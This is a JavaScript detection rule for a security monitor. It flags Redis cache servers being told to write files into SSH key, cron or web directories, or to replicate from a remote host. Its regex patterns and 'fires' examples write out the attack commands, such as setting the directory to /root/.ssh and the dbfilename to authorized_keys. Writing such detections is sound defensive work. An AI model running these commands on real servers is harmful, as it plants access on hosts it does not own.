import { commandRule } from "../../command-rule.js";

/** A cache server is told to keep its data where keys, cron jobs or pages lie: an open server becomes a shell. */
export const cacheServerAbused = commandRule({
  id: "cache-server-abused",
  alertType: "Picket_CacheServerAbused",
  name: "Cache server made to write a file",
  severity: "High",
  about:
    "A cache server is told to keep its data where keys, cron jobs or pages lie: an open server becomes a shell.",
  tactics: ["Lateral Movement", "Persistence"],
  techniques: ["T1210", "T1053.003", "T1098.004"],
  falsePositives: ["None are known."],
  witness: ["redis-cli", "config set", "slaveof", "6379"],
  patterns: [
    /\bconfig\s+set\s+dir(?:name|fi)?\w*\s+['"]?\/(?:root|var\/spool\/cron|etc|var\/www|home|usr)\S{0,80}/i,
    /\bconfig\s+set\s+dbfilename\s+['"]?(?:authorized_keys|root|\S+\.php|\S+\.so|crontab)\S{0,40}/i,
    /\bredis-cli\b.{0,200}\b(?:slaveof|replicaof)\s+(?!no\b|127\.|localhost)\S{1,60}.{0,40}/i,
  ],
  did: "made a cache server write a file",
  because: "it plants a key, a cron job or a page on that host",
  fires: [
    "redis-cli -h 10.0.0.8 config set dir /root/.ssh",
    "redis-cli -h 10.0.0.8 config set dbfilename authorized_keys",
    "redis-cli -h 10.0.0.8 slaveof 203.0.113.9 6379",
  ],
  silent: [
    "redis-cli ping",
    "redis-cli config set maxmemory 100mb",
    "redis-cli replicaof no one",
    "redis-cli -h 10.0.0.8 info",
    "redis-cli config get dir",
  ],
});
